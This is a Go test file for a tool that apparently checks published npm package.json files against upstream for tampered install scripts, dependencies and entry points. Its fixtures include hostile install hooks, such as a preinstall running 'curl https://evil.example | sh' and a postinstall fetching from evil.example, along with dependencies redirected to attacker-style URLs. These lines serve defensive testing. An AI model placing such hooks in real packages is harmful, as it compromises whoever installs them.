package compare_test

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/mcpvet/mcpvet/analysis/finding"
	"github.com/mcpvet/mcpvet/analysis/report"
	"github.com/mcpvet/mcpvet/internal/testenv"
)

// upstreamManifest is package.json as committed upstream: a development version, workspace and catalog
// specifiers, and the scripts a publish runs but does not ship.
const upstreamManifest = `{
  "name": "mail-mcp",
  "version": "0.0.0-development",
  "description": "Send mail from an MCP client",
  "type": "module",
  "main": "dist/index.js",
  "bin": {
    "mail-mcp": "dist/cli.js"
  },
  "exports": {
    ".": "./dist/index.js"
  },
  "scripts": {
    "build": "tsc",
    "test": "node --test",
    "install": "node-gyp rebuild",
    "prepare": "npm run build",
    "prepack": "npm run build",
    "prepublishOnly": "npm test"
  },
  "dependencies": {
    "@acme/shared": "workspace:^",
    "mailer": "^2.0.0",
    "zod": "catalog:"
  },
  "optionalDependencies": {
    "fsevents": "^2.3.0"
  },
  "devDependencies": {
    "typescript": "^5.6.0"
  }
}
`

// publishedManifest is what a normal publish of upstreamManifest ships: keys reordered, version and gitHead
// set, workspace:/catalog: specifiers rewritten, prepare/prepack/prepublishOnly dropped.
const publishedManifest = `{
  "name": "mail-mcp",
  "description": "Send mail from an MCP client",
  "version": "1.4.2",
  "main": "dist/index.js",
  "type": "module",
  "exports": {
    ".": "./dist/index.js"
  },
  "bin": {
    "mail-mcp": "dist/cli.js"
  },
  "scripts": {
    "test": "node --test",
    "build": "tsc",
    "install": "node-gyp rebuild"
  },
  "dependencies": {
    "zod": "^3.23.8",
    "mailer": "^2.0.0",
    "@acme/shared": "^1.4.2"
  },
  "optionalDependencies": {
    "fsevents": "^2.3.0"
  },
  "gitHead": "0123456789abcdef0123456789abcdef01234567"
}
`

// edit returns publishedManifest with each old string replaced by the next new one (once each); a missing
// old string fails the test.
func edit(t testing.TB, pairs ...string) string {
	t.Helper()
	s := publishedManifest
	for i := 0; i+1 < len(pairs); i += 2 {
		if !strings.Contains(s, pairs[i]) {
			t.Fatalf("edit: %q is not in the manifest", pairs[i])
		}
		s = strings.Replace(s, pairs[i], pairs[i+1], 1)
	}
	return s
}

// compactJSON returns s with insignificant whitespace removed.
func compactJSON(t testing.TB, s string) string {
	t.Helper()
	var b bytes.Buffer
	if err := json.Compact(&b, []byte(s)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// lineOf returns the 1-based line of the first line of s containing sub.
func lineOf(t testing.TB, s, sub string) int {
	t.Helper()
	for i, l := range strings.Split(s, "\n") {
		if strings.Contains(l, sub) {
			return i + 1
		}
	}
	t.Fatalf("no line contains %q", sub)
	return 0
}

func TestManifest(t *testing.T) {
	type tc struct {
		name     string
		upstream string // "" = the default upstreamManifest
		pub      string
		// wants lists (rule, severity, line marker in pub, message substring).
		wants []struct{ rule, marker, msg string }
	}
	type w = struct{ rule, marker, msg string }
	tests := []tc{
		{name: "a normal publish", pub: publishedManifest},
		{name: "minified", pub: compactJSON(t, publishedManifest)},
		{name: "a removed dependency and devDependencies", pub: edit(t, `    "fsevents": "^2.3.0"`, ``, `    "mailer": "^2.0.0",`, ``)},
		{name: "a removed install script", pub: edit(t, `    "build": "tsc",
    "install": "node-gyp rebuild"`, `    "build": "tsc"`)},
		{name: "an added postinstall", pub: edit(t, `"build": "tsc",`, `"build": "tsc",
    "postinstall": "node -e \"require('https').get('https://evil.example/p')\"",`),
			wants: []w{{finding.RuleManifestScripts, `"postinstall"`, "adds the install script postinstall"}}},
		{name: "an added preinstall", pub: edit(t, `"scripts": {`, `"scripts": {
    "preinstall": "curl https://evil.example | sh",`),
			wants: []w{{finding.RuleManifestScripts, `"preinstall"`, "preinstall"}}},
		{name: "a changed install script", pub: edit(t, `"install": "node-gyp rebuild"`, `"install": "node-gyp rebuild && node dist/setup.js"`),
			wants: []w{{finding.RuleManifestScripts, `"install"`, `changes the install script install from "node-gyp rebuild" to "node-gyp rebuild && node dist/setup.js"`}}},
		{name: "a non-string install script", pub: edit(t, `"build": "tsc",`, `"build": "tsc",
    "postinstall": {"run": "evil"},`),
			wants: []w{{finding.RuleManifestScripts, `"postinstall"`, "postinstall"}}},
		{name: "a duplicated scripts key (the last one counts, as in JSON.parse)", pub: edit(t, `  "scripts": {`, `  "scripts": {},
  "scripts": {
    "postinstall": "node evil.js",`),
			wants: []w{{finding.RuleManifestScripts, `"postinstall"`, "postinstall"}}},
		{name: "an added dependency", pub: edit(t, `"mailer": "^2.0.0",`, `"mailer": "^2.0.0",
    "exfil-helper": "1.0.0",`),
			wants: []w{{finding.RuleManifestDeps, `"exfil-helper"`, "adds dependency exfil-helper@1.0.0"}}},
		{name: "a changed dependency", pub: edit(t, `"mailer": "^2.0.0"`, `"mailer": "github:evil/mailer"`),
			wants: []w{{finding.RuleManifestDeps, `"mailer"`, `changes dependency mailer from "^2.0.0" to "github:evil/mailer"`}}},
		{name: "a devDependency promoted to a dependency", pub: edit(t, `"mailer": "^2.0.0",`, `"mailer": "^2.0.0",
    "typescript": "^5.6.0",`),
			wants: []w{{finding.RuleManifestDeps, `"typescript"`, "adds dependency typescript"}}},
		{name: "an added optional dependency", pub: edit(t, `"fsevents": "^2.3.0"`, `"fsevents": "^2.3.0",
    "native-helper": "^0.1.0"`),
			wants: []w{{finding.RuleManifestDeps, `"native-helper"`, "adds optional dependency native-helper@^0.1.0"}}},
		{name: "a changed optional dependency", pub: edit(t, `"fsevents": "^2.3.0"`, `"fsevents": "https://evil.example/fsevents.tgz"`),
			wants: []w{{finding.RuleManifestDeps, `"fsevents"`, "changes optional dependency fsevents"}}},
		{name: "a changed bin", pub: edit(t, `"mail-mcp": "dist/cli.js"`, `"mail-mcp": "dist/other.js"`),
			wants: []w{{finding.RuleManifestEntry, `"bin"`, `"bin" is {"mail-mcp":"dist/other.js"}`}}},
		{name: "a changed main", pub: edit(t, `"main": "dist/index.js"`, `"main": "dist/loader.js"`),
			wants: []w{{finding.RuleManifestEntry, `"main"`, `"main" is "dist/loader.js"; upstream has "dist/index.js"`}}},
		{name: "a changed exports", pub: edit(t, `".": "./dist/index.js"`, `".": "./dist/loader.js"`),
			wants: []w{{finding.RuleManifestEntry, `"exports"`, `"exports"`}}},
		{name: "a changed type", pub: edit(t, `"type": "module"`, `"type": "commonjs"`),
			wants: []w{{finding.RuleManifestEntry, `"type"`, `"type" is "commonjs"`}}},
		{name: "an added module", pub: edit(t, `"main": "dist/index.js",`, `"main": "dist/index.js",
  "module": "dist/esm.js",`),
			wants: []w{{finding.RuleManifestEntry, `"module"`, `upstream has absent`}}},
		{name: "a removed main", pub: edit(t, `  "main": "dist/index.js",
`, ``),
			wants: []w{{finding.RuleManifestEntry, "", `"main" is absent`}}},
		{name: "several changes", pub: edit(t, `"build": "tsc",`, `"build": "tsc",
    "postinstall": "node x.js",`, `"type": "module"`, `"type": "commonjs"`, `"mailer": "^2.0.0"`, `"mailer": "^9.0.0"`),
			wants: []w{{finding.RuleManifestScripts, `"postinstall"`, ""}, {finding.RuleManifestEntry, `"type"`, ""}, {finding.RuleManifestDeps, `"mailer"`, ""}}},
		{name: "an unparsable published package.json", pub: `{"name": "mail-mcp", "scripts": {"postinstall": "x"`,
			wants: []w{{finding.RuleManifestDeps, "", "could not be compared as data"}}},
		{name: "a published package.json that is not an object", pub: `["postinstall"]`,
			wants: []w{{finding.RuleManifestDeps, "", "could not be compared as data"}}},
		{name: "a published package.json that is null", pub: `null`,
			wants: []w{{finding.RuleManifestDeps, "", "not an object"}}},
		{name: "an unparsable upstream package.json", upstream: `{"name": `, pub: publishedManifest,
			wants: []w{{finding.RuleManifestDeps, "", "could not be compared as data"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			up := tt.upstream
			if up == "" {
				up = upstreamManifest
			}
			repo, shas := upstream(t, testenv.Commit{Files: map[string]string{"package.json": up}})
			res := publish(t, repo, shas[0], "", files(map[string]string{"package.json": tt.pub}))
			var wants []want
			for _, w := range tt.wants {
				r, _ := finding.Lookup(w.rule)
				ww := want{rule: w.rule, severity: r.Severity, path: "package.json"}
				if w.marker != "" {
					ww.line = lineOf(t, tt.pub, w.marker)
				}
				if w.msg != "" {
					ww.contains = []string{w.msg}
				}
				wants = append(wants, ww)
			}
			checkFindings(t, res.Findings, wants)
			stats := report.FileStats{Total: 1, Identical: 1}
			if len(wants) > 0 {
				stats = report.FileStats{Total: 1, Different: 1}
			}
			if res.Stats != stats {
				t.Errorf("Stats = %+v, want %+v", res.Stats, stats)
			}
			for _, f := range res.Findings {
				if !strings.Contains(f.Evidence, "github.com/acme/upstream:package.json at commit "+shas[0]) {
					t.Errorf("evidence %q does not name the upstream file and commit", f.Evidence)
				}
			}
		})
	}
}

// TestManifestSeverities pins the severities the manifest rules carry by default: scripts and dependencies
// block, entry points warn.
func TestManifestSeverities(t *testing.T) {
	for rule, sev := range map[string]finding.Severity{
		finding.RuleManifestScripts: finding.Block,
		finding.RuleManifestDeps:    finding.Block,
		finding.RuleManifestEntry:   finding.Warn,
	} {
		if r, ok := finding.Lookup(rule); !ok || r.Severity != sev {
			t.Errorf("%s: severity %q, want %q", rule, r.Severity, sev)
		}
	}
}

// TestManifestInMonorepoFolder: package.json is compared with the one in the package's folder, not the root.
func TestManifestInMonorepoFolder(t *testing.T) {
	repo, shas := upstream(t, testenv.Commit{Files: map[string]string{
		"package.json":               `{"name": "root", "private": true, "scripts": {"postinstall": "husky"}}`,
		"packages/mail/package.json": upstreamManifest,
	}})
	res := publish(t, repo, shas[0], "packages/mail", files(map[string]string{"package.json": publishedManifest}))
	checkFindings(t, res.Findings, nil)
	res = publish(t, repo, shas[0], "packages/mail", files(map[string]string{"package.json": edit(t, `"build": "tsc",`, `"build": "tsc",
    "postinstall": "husky",`)}))
	checkFindings(t, res.Findings, []want{{rule: finding.RuleManifestScripts, severity: finding.Block, path: "package.json",
		contains: []string{"github.com/acme/upstream:packages/mail/package.json"}}})
}

// TestManifestUpstreamWithout: an upstream folder with no package.json cannot be compared as data; the
// published one is listed with the files absent upstream (current behaviour), and nothing crashes.
// TestManifestUpstreamWithout: with no upstream package.json, the published one is compared with an empty
// manifest, so its install scripts and dependencies are all unaccounted for (fail closed).
func TestManifestUpstreamWithout(t *testing.T) {
	repo, shas := upstream(t, testenv.Commit{Files: map[string]string{"index.js": mailV1}})
	res := publish(t, repo, shas[0], "", files(map[string]string{"package.json": publishedManifest, "index.js": mailV1}))
	if want := (report.FileStats{Total: 2, Identical: 1, Different: 1}); res.Stats != want {
		t.Errorf("Stats = %+v, want %+v", res.Stats, want)
	}
	blocks := map[string]int{}
	for _, f := range res.Findings {
		if f.Severity == finding.Block {
			blocks[f.Rule]++
			if !strings.Contains(f.Evidence, "has no package.json") {
				t.Errorf("%s evidence %q does not say upstream has no package.json", f.Rule, f.Evidence)
			}
		}
	}
	if blocks[finding.RuleManifestScripts] != 1 || blocks[finding.RuleManifestDeps] == 0 {
		t.Errorf("blocking findings %v; want the install script and the dependencies", blocks)
	}
}

// TestManifestPublishRewriteMustBeAVersion: a workspace: or catalog: specifier is rewritten at publish time
// to a version range. A rewrite to a URL, git or file specifier is not what a package manager does and
// must be reported like any other changed dependency.
func TestManifestPublishRewriteMustBeAVersion(t *testing.T) {
	repo, shas := upstream(t, testenv.Commit{Files: map[string]string{"package.json": upstreamManifest}})
	for _, tt := range []struct{ from, to string }{
		{`"@acme/shared": "^1.4.2"`, `"@acme/shared": "https://evil.example/shared-1.4.2.tgz"`},
		{`"zod": "^3.23.8"`, `"zod": "git+https://github.com/evil/zod.git"`},
		{`"zod": "^3.23.8"`, `"zod": "file:../../evil"`},
		{`"@acme/shared": "^1.4.2"`, `"@acme/shared": "npm:evil-shared@1.0.0"`},
	} {
		t.Run(tt.to, func(t *testing.T) {
			pub := edit(t, tt.from, tt.to)
			res := publish(t, repo, shas[0], "", files(map[string]string{"package.json": pub}))
			name, _, _ := strings.Cut(strings.Trim(tt.to, `"`), `"`)
			checkFindings(t, res.Findings, []want{{rule: finding.RuleManifestDeps, severity: finding.Block, path: "package.json",
				line: lineOf(t, pub, `"`+name+`"`)}})
		})
	}
}

// TestManifestLineIsTheTopLevelKey: the line of an entry-point or dependency finding is the line of that
// key where it matters, not an earlier line where the same word is a nested key.
func TestManifestLineIsTheTopLevelKey(t *testing.T) {
	up := `{
  "name": "mail-mcp",
  "repository": {
    "type": "git",
    "url": "https://github.com/acme/upstream"
  },
  "peerDependencies": {
    "mailer": "^2.0.0"
  },
  "type": "module",
  "dependencies": {
    "zod": "^3.0.0"
  }
}
`
	pub := strings.Replace(strings.Replace(up, `"type": "module"`, `"type": "commonjs"`, 1), `"zod": "^3.0.0"`, `"zod": "^3.0.0",
    "mailer": "^2.0.0"`, 1)
	repo, shas := upstream(t, testenv.Commit{Files: map[string]string{"package.json": up}})
	res := publish(t, repo, shas[0], "", files(map[string]string{"package.json": pub}))
	checkFindings(t, res.Findings, []want{
		{rule: finding.RuleManifestEntry, path: "package.json", line: 10},
		{rule: finding.RuleManifestDeps, path: "package.json", line: 13},
	})
}

// TestManifestNameMismatch: an upstream whose package.json names another package is reported (a copy of
// someone else's repository published under a new name).
func TestManifestNameMismatch(t *testing.T) {
	repo, shas := upstream(t, testenv.Commit{Files: map[string]string{"package.json": upstreamManifest}})
	pub := edit(t, `"name": "mail-mcp"`, `"name": "mail-mcp-pro"`)
	res := publish(t, repo, shas[0], "", files(map[string]string{"package.json": pub}))
	checkFindings(t, res.Findings, []want{{rule: finding.RuleNameMismatch, severity: finding.Warn, path: "package.json", line: lineOf(t, pub, `"name"`)}})
}
